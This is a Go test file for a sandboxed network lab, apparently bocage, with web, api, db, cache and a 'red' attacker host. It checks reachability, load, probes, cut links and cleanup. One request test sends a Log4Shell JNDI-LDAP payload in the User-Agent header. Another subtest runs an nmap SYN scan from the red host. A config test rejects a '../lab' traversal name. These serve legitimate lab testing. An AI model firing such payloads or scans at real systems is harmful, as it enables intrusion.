package lab

import (
	"context"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/signal"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"bocage.dev/bocage/host"
	"bocage.dev/bocage/host/hosttest"
)

// The test binary stands in for the bocage binary, whose hidden subcommands the
// workloads run.
func TestMain(m *testing.M) {
	serve := map[string]func(context.Context, []string) error{"lab-api": ServeAPI, "lab-load": ServeLoad}
	if len(os.Args) > 1 && serve[os.Args[1]] != nil {
		ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGTERM)
		defer stop()
		if err := serve[os.Args[1]](ctx, os.Args[2:]); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		return
	}
	os.Exit(m.Run())
}

// The whole life of a lab: it works, it carries attacks and probes, it notices
// what is refused, and it leaves nothing.
func TestRootLab(t *testing.T) {
	hosttest.Root(t)
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	before, err := TakeSnapshot()
	if err != nil {
		t.Fatal(err)
	}
	prefix := hosttest.Name(t)
	begun := time.Now()
	l, err := Up(ctx, Config{Prefix: prefix})
	t.Cleanup(func() {
		if err := Down(prefix); err != nil {
			t.Error(err)
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("up after %s", time.Since(begun))

	t.Run("the shop works", func(t *testing.T) {
		first, err := l.Check(ctx)
		if err != nil {
			t.Fatal(err)
		}
		second, err := l.Check(ctx)
		if err != nil || second.Rows != first.Rows+1 {
			t.Errorf("db has %d checks after %d, %v", second.Rows, first.Rows, err)
		}
		if err := l.Query(ctx, "shop/api"); err != nil {
			t.Error(err)
		}
	})
	t.Run("the client keeps load on it", func(t *testing.T) {
		seen := awaitLoad(ctx, t, l, 100)
		if seen.Failed != 0 || seen.Resets != 0 || seen.Lost != 0 || seen.Opened != 0 {
			t.Errorf("on a quiet lab: %+v", seen)
		}
		if seen.FromDB == 0 || seen.FromCache == 0 {
			t.Errorf("the db gave %d answers and the cache %d", seen.FromDB, seen.FromCache)
		}
	})
	t.Run("what is open and what is not", func(t *testing.T) {
		for _, c := range []struct {
			from, to string
			port     uint16
			open     bool
		}{
			{"dev/red", "shop/web", WebPort, true},
			{"web", "api", APIPort, true},
			{"api", "db", DBPort, true},
			{"api", "cache", CachePort, true},
			{"api", l.Address6("cache").String(), CachePort, true},
			{"red", l.Address6("web").String(), WebPort, true},
			{"api", "cache", 22, false},
			{"red", l.UnusedAddress().String(), 80, false},
		} {
			open, err := l.Connects(ctx, c.from, c.to, c.port, 500*time.Millisecond)
			if err != nil || open != c.open {
				t.Errorf("%s to %s:%d is open: %v, %v; want %v", c.from, c.to, c.port, open, err, c.open)
			}
		}
	})
	t.Run("requests", func(t *testing.T) {
		for path, want := range map[string]int{"/search?q=product+77": 200, "/products/12": 200, "/products/4000": 404, "/products/x": 400, "/ping": 200} {
			got, err := l.Get(ctx, "shop/web", "shop/api", APIPort, path, map[string]string{"User-Agent": "${jndi:ldap://10.77.0.66/a}"})
			if err != nil || got.Status != want {
				t.Errorf("%s: %s, %v; want %d", path, got, err, want)
			}
		}
	})
	t.Run("commands", func(t *testing.T) {
		out, err := l.Run(ctx, "dev/red", "nmap", "-n", "-Pn", "-sS", "-p", "80,22", l.Address("web").String())
		if err != nil || !strings.Contains(out, "80/tcp open") || !strings.Contains(out, "22/tcp closed") {
			t.Errorf("nmap: %v:\n%s", err, out)
		}
		short, stop := context.WithTimeout(ctx, 100*time.Millisecond)
		defer stop()
		if _, err := l.Run(short, "dev/red", "sleep", "60"); err == nil {
			t.Error("a command outlived its context")
		}
	})
	t.Run("probes", func(t *testing.T) { testProbes(ctx, t, l) })
	t.Run("a cut is noticed", func(t *testing.T) { testCut(ctx, t, l) })
	t.Run("once more", func(t *testing.T) {
		if _, err := New(ctx, Config{Prefix: prefix}); !errors.Is(err, fs.ErrExist) {
			t.Errorf("a second lab of the same name: %v, want fs.ErrExist", err)
		}
		again, err := Open(Config{Prefix: prefix})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := again.Check(ctx); err != nil {
			t.Error(err)
		}
	})

	left, err := before.Residue(prefix)
	if err != nil || len(left) < 10 {
		t.Errorf("while it stands, %q is there: %v", left, err)
	}
	begun = time.Now()
	if err := l.Down(ctx); err != nil {
		t.Error(err)
	}
	if took := time.Since(begun); took > 5*time.Second {
		t.Errorf("down took %s", took)
	}
	left, err = before.Residue(prefix)
	if err != nil || len(left) != 0 {
		t.Errorf("left behind: %q, %v", left, err)
	}
}

// awaitLoad waits until the client got so many further answers.
func awaitLoad(ctx context.Context, t *testing.T, l *Lab, answers uint64) Load {
	t.Helper()
	var first, since Load
	err := await(ctx, nil, func() (err error) {
		now, err := l.Load()
		if err != nil {
			return err
		}
		if first.OK == 0 {
			first = now
		}
		if since = now.Since(first); since.OK < answers {
			return fmt.Errorf("%d of %d answers; last error %s", since.OK, answers, since.LastError)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return since
}

func testProbes(ctx context.Context, t *testing.T, l *Lab) {
	const enough = 100
	kinds := []struct {
		name  string
		start func() (*Probe, error)
	}{
		{"cache", func() (*Probe, error) { return l.Probe(ctx, "shop/api", "shop/cache", CachePort) }},
		{"web", func() (*Probe, error) { return l.Probe(ctx, "users/client", "shop/web", WebPort) }},
		{"udp", func() (*Probe, error) { return l.ProbeUDP(ctx, "shop/web", "shop/api", 9000) }},
		{"icmp", func() (*Probe, error) { return l.ProbeICMP(ctx, "shop/web", "shop/api") }},
	}
	for _, kind := range kinds {
		p, err := kind.start()
		if err != nil {
			t.Errorf("%s: %v", kind.name, err)
			continue
		}
		err = await(ctx, nil, func() error {
			p.mu.Lock()
			defer p.mu.Unlock()
			if p.result.Answered < enough && p.err == nil {
				return fmt.Errorf("%d answers", p.result.Answered)
			}
			return nil
		})
		result, stopErr := p.Stop()
		if err != nil || stopErr != nil || result.Lost != 0 || result.Twice != 0 || result.Resets != 0 || result.Answered < enough {
			t.Errorf("%s: %+v, %v, %v", kind.name, result, err, stopErr)
		}
	}
	soak, err := l.Soak(ctx, "shop/web", "shop/db", 9001)
	if err != nil {
		t.Fatal(err)
	}
	awaitLoad(ctx, t, l, 10)
	if r := soak.Stop(); r.Sent == 0 || r.Echoed != r.Sent || r.Wrong != 0 || r.Resets != 0 || r.LostSegments != 0 {
		t.Errorf("soak: %+v", r)
	}
}

// testCut takes the cache's link away and brings it back: everything that
// counts must have counted it.
func testCut(ctx context.Context, t *testing.T, l *Lab) {
	on := l.HostNamespace("h2")
	held, err := l.Hold(ctx, "shop/api", "shop/cache", CachePort)
	if err != nil {
		t.Fatal(err)
	}
	defer held.Close()
	if !held.Alive(ctx, time.Second) {
		t.Error("a held connection is not alive")
	}
	probe, err := l.ProbeUDP(ctx, "shop/api", "shop/cache", 9000)
	if err != nil {
		t.Fatal(err)
	}
	stream, err := l.Probe(ctx, "shop/api", "shop/cache", CachePort)
	if err != nil {
		t.Fatal(err)
	}
	before, err := l.Load()
	if err != nil {
		t.Fatal(err)
	}
	// A port of a bridge that does not exist forwards nothing.
	if err := host.CreateBridge(on, "nowhere"); err != nil {
		t.Fatal(err)
	}
	if err := host.SetMaster(on, "veth-cache", "nowhere"); err != nil {
		t.Fatal(err)
	}
	if held.Alive(ctx, 300*time.Millisecond) {
		t.Error("a connection that was cut is alive")
	}
	if err := l.Query(ctx, "shop/api"); err == nil {
		t.Error("the shop works without its cache")
	}
	if err := host.SetMaster(on, "veth-cache", Bridge); err != nil {
		t.Fatal(err)
	}
	if err := await(ctx, nil, func() error { _, err := l.Check(ctx); return err }); err != nil {
		t.Error(err)
	}
	if r, err := probe.Stop(); err != nil || r.Lost == 0 {
		t.Errorf("probes over a link that was cut: %+v, %v", r, err)
	}
	if r, err := stream.Stop(); err != nil || r.Lost == 0 || r.LongestGap < 300*time.Millisecond {
		t.Errorf("a stream over a link that was cut: %+v, %v", r, err)
	}
	now, err := l.Load()
	if seen := now.Since(before); err != nil || seen.Failed == 0 {
		t.Errorf("the client did not notice: %+v, %v", seen, err)
	}
}

// A lab whose maker died is taken down by its name.
func TestRootDownAfterCrash(t *testing.T) {
	hosttest.Root(t)
	prefix := hosttest.Name(t)
	l, err := New(t.Context(), Config{Prefix: prefix})
	if err != nil {
		t.Fatal(err)
	}
	defer Down(prefix)
	// Half a start: a workload with a server that nobody waits for.
	if err := l.buildWorkload(l.place("cache")); err != nil {
		t.Fatal(err)
	}
	if err := l.startCache(t.Context()); err != nil {
		t.Fatal(err)
	}
	if _, err := Open(Config{Prefix: prefix}); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("half a lab opens: %v", err)
	}
	for range 2 {
		if err := Down(prefix); err != nil {
			t.Error(err)
		}
	}
	names, err := host.Namespaces()
	if err != nil || slices.ContainsFunc(names, func(n string) bool { return strings.HasPrefix(n, prefix) }) {
		t.Errorf("namespaces %v, %v", names, err)
	}
	<-l.servers[0].done // or the test would leave a zombie
}

func TestConfigIsRefused(t *testing.T) {
	for _, prefix := range []string{"Lab", "1lab", "lab-x", "../lab", "averylongnamefora", "läb"} {
		if _, err := New(t.Context(), Config{Prefix: prefix}); !errors.Is(err, fs.ErrInvalid) {
			t.Errorf("lab %q: %v, want fs.ErrInvalid", prefix, err)
		}
		if err := Down(prefix); !errors.Is(err, fs.ErrInvalid) {
			t.Errorf("down %q: %v, want fs.ErrInvalid", prefix, err)
		}
	}
}
